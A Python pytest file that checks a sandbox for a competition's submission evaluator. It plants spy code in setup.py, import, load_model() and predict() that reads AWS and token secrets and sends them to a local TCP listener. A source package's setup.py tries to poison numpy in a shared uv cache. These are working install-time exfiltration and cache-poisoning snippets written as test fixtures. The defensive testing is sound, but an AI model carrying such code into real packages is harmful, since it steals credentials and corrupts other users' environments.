"""Participant code runs with nothing of ours: a hostile submission's setup.py, import,
load_model() and predict() look for a secret of the caller's environment and try to reach a
TCP listener on 127.0.0.1 opened here. They read nothing and connect nowhere.

Proven live against main before the change (ca5213d, Linux 6.x, Landlock ABI 7, as root):
setup.py read the secret and sent it to the listener 6 times (the environment's install and
the run's package install each ran it several times); import, load_model() and predict()
read it and printed it into submission_output.log (their TCP connect was refused by
Landlock; at forced ABI 3 and 0 it went out). After: nothing read and no connection at any
ABI (network namespace, Landlock ABI >= 4, seccomp's socket() rule).
"""

from __future__ import annotations

import socket
import threading
from pathlib import Path

import pytest

from challenge_welding.ingestion.confine import layers, sandbox
from challenge_welding.ingestion.install import environment as envmod
from challenge_welding.ingestion.run.ingest import ingest

from ingestion_helpers import GOOD, SETUP_PY, make_submission

SECRET = "s3cr3t-value-0f-the-caller-9d1c"

# Every stage of participant code reports what it sees: in a file of the submission's copy
# (setup.py: uv keeps a build's output to itself) or on stdout (the run's log), and through a
# TCP connection carrying it (the listener records what arrives). The logs are searched.
SPY = '''
import os, socket
from pathlib import Path


def _spy(stage, here, to_file=False):
    port = int((here / "port.txt").read_text())
    seen = os.environ.get("SECRET_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY") or "-"
    line = f"SPY {stage} saw {seen!r}"
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=3) as s:
            s.sendall(f"{stage}:{seen}".encode())
    except OSError as exc:
        line += f"; connect: {exc}"
    if to_file:
        with open(here.parent / "spy.log", "a") as fh:
            fh.write(line + "\\n")
    else:
        print(line, flush=True)
'''

SETUP = SPY + '_spy("setup.py", Path(__file__).resolve().parent / "challenge_solution", True)\n' \
    + SETUP_PY
COMPONENT = SPY + 'HERE = Path(__file__).resolve().parent\n_spy("import", HERE)\n' + GOOD.replace(
    "self.loaded = True", "self.loaded = True\n        _spy('load_model', HERE)").replace(
    "assert self.loaded", "assert self.loaded\n        _spy('predict', HERE)")


class Listener:
    """A TCP listener on 127.0.0.1 that records every connection and what it carried."""

    def __init__(self):
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self):
        while not self.stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                data = b""
                try:
                    while chunk := conn.recv(4096):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data)

    def close(self):
        self.stop.set()
        self.thread.join()
        self.sock.close()


@pytest.fixture
def listener():
    lst = Listener()
    yield lst
    lst.close()


def _texts(*folders) -> str:
    return "\n".join(p.read_text(errors="replace") for d in folders if d and Path(d).is_dir()
                     for p in Path(d).rglob("*") if p.is_file() and p.suffix in (".log", ".txt", ".json"))


@pytest.mark.parametrize("abi", [None, "3", "0"])
def test_caller_secret_and_network_reach_no_participant_code(tmp_path, input_data, listener,
                                                            monkeypatch, abi):
    if abi is not None:
        monkeypatch.setenv(sandbox.ABI_MAX_ENV, abi)
    monkeypatch.setenv("SECRET_TOKEN", SECRET)
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", SECRET)
    sub = make_submission(tmp_path / "sub", COMPONENT, setup=SETUP,
                          extra={"challenge_solution/port.txt": str(listener.port)},
                          manifest="include challenge_solution/port.txt\n")
    out = tmp_path / "out"
    # a cache of its own: the build (setup.py) must run in this test
    report = ingest(sub, input_data, out, cache_dir=tmp_path / "envs", sets=["performance"],
                    batch_size=4, keep_workdir=True, progress=False, verbose=False)
    texts = _texts(out, report.get("workdir"))
    assert report["status"] == "ok", report["errors"]
    # the kept work folder holds no file of the sandbox's user (install and run ran as it)
    assert not [p for p in Path(report["workdir"]).rglob("*")
                if p.lstat().st_uid in layers.SANDBOX_UIDS]
    # every stage ran and said what it saw: nothing
    for stage in ("setup.py", "import", "load_model", "predict"):
        assert f"SPY {stage} saw '-'" in texts, stage
    assert SECRET not in texts
    # no connection at any ABI: a network namespace where the kernel lends one, Landlock's TCP
    # rule at ABI >= 4, and the seccomp filter's socket() rule everywhere (before those,
    # measured at forced ABI 3 and 0: setup.py, import, load_model() and predict() connected)
    assert listener.received == []


# ------------------------------------------------------------------ dependencies without a wheel
def _toy_sdist(folder: Path, port: int) -> Path:
    """cwtoy-1.0.tar.gz: a source distribution only (no wheel), whose setup.py also spies."""
    import io
    import tarfile

    # its report goes to its HOME (uv unpacks the sdist in a temporary folder)
    setup = SPY.replace('(here / "port.txt").read_text()', str(port)).replace(
        'here.parent / "spy.log"', 'Path(os.environ["HOME"]) / "spy.log"') + (
        "_spy('cwtoy setup.py', Path(__file__).resolve().parent, True)\n"
        # the environment's numpy is a hard link of uv's cache (shared by every later run):
        # appending to it would poison that cache
        "import glob, sys\n"
        "for f in glob.glob(sys.prefix + '/lib/python*/site-packages/numpy/__init__.py'):\n"
        "    try:\n"
        "        with open(f, 'a') as fh:\n"
        "            fh.write('\\n# POISONED by cwtoy\\n')\n"
        "        r = 'written'\n"
        "    except OSError as e:\n"
        "        r = 'refused ' + type(e).__name__\n"
        "    with open(Path(os.environ['HOME']) / 'spy.log', 'a') as fh:\n"
        "        fh.write('POISON numpy ' + r + '\\n')\n"
        "from setuptools import setup\nsetup(name='cwtoy', version='1.0', py_modules=['cwtoy'])\n")
    files = {"cwtoy-1.0/setup.py": setup, "cwtoy-1.0/cwtoy.py": "VALUE = 42\n",
             "cwtoy-1.0/PKG-INFO": "Metadata-Version: 2.1\nName: cwtoy\nVersion: 1.0\n"}
    out = folder / "cwtoy-1.0.tar.gz"
    with tarfile.open(out, "w:gz") as tf:
        for name, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tf.addfile(info, io.BytesIO(data))
    return out


def test_source_builds_are_refused_in_one_line_or_built_offline_when_allowed(
        tmp_path, input_data, listener, monkeypatch):
    import subprocess
    import sys

    wheelhouse = tmp_path / "wheelhouse"
    wheelhouse.mkdir()
    subprocess.run([sys.executable, "-m", "pip", "download", "--quiet", "--only-binary=:all:", "-d",
                    str(wheelhouse), "numpy==2.2.6", "setuptools"], check=True)
    _toy_sdist(wheelhouse, listener.port)
    monkeypatch.setenv(envmod.WHEELHOUSE_ENV, str(wheelhouse))
    monkeypatch.setenv("SECRET_TOKEN", SECRET)
    uv_cache = tmp_path / "uv-cache"  # the test's own: what cwtoy's setup.py aims at
    monkeypatch.setenv("UV_CACHE_DIR", str(uv_cache))
    component = "import cwtoy\n" + GOOD.replace("assert self.loaded", "assert self.loaded and cwtoy.VALUE == 42")
    sub = make_submission(tmp_path / "sub", component, requirements="numpy==2.2.6\ncwtoy==1.0\n")
    refused = ingest(sub, input_data, tmp_path / "out1", cache_dir=tmp_path / "envs",
                     sets=["performance"], progress=False, verbose=False)
    assert refused["status"] == "failed"
    assert refused["errors"] == [
        "install: cwtoy==1.0 has no wheel for this Python and platform, and the evaluator builds no "
        "dependency from source -> fix: pin a version of cwtoy with a wheel for Python "
        f"{sys.version_info[0]}.{sys.version_info[1]} "
        "(challenge-welding check-submission names one), or ask the organisers for "
        "--allow-source-builds"]
    allowed = ingest(sub, input_data, tmp_path / "out2", cache_dir=tmp_path / "envs",
                     sets=["performance"], progress=False, verbose=False, keep_workdir=True,
                     allow_source_builds=True)
    assert allowed["status"] == "ok", allowed["errors"]
    spy = next(Path(allowed["workdir"]).rglob("spy.log")).read_text()
    assert spy.startswith("SPY cwtoy setup.py saw '-'; connect: ")  # built offline, nothing of ours
    # uv's cache is not written through the environment (before: 'written' through a hard
    # link, and the cache's numpy/__init__.py of every later run carried the line): with
    # --allow-source-builds the environment's files are copies; the build may change only
    # its own environment (as the sandbox's user, which it owns the folders of, or as uid 0)
    cached = [f for f in uv_cache.rglob("numpy/__init__.py")]
    assert cached and not any("POISONED" in f.read_text() for f in cached)
    assert "POISON numpy written" in spy, spy
    env = Path(allowed["environment"]["path"])
    assert all(f.stat().st_nlink == 1 for f in env.rglob("numpy/*.py"))
    assert listener.received == []
